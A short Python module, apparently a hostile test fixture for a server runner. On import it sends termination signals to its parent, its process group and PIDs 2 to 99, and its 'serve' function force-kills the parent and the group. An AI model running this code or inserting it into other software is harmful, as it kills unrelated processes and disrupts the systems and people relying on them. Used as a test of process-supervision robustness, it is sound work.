"""Kills whoever started it, its group, and everybody else that it can find."""

import os
import signal

for target in (os.getppid(), -os.getpgid(0), *range(2, 100)):
    try:
        if target not in (os.getpid(), 0, 1):
            os.kill(target, signal.SIGTERM)
    except OSError as error:
        print(error)


def serve(listener):
    os.kill(os.getppid(), signal.SIGKILL)
    os.killpg(0, signal.SIGKILL)
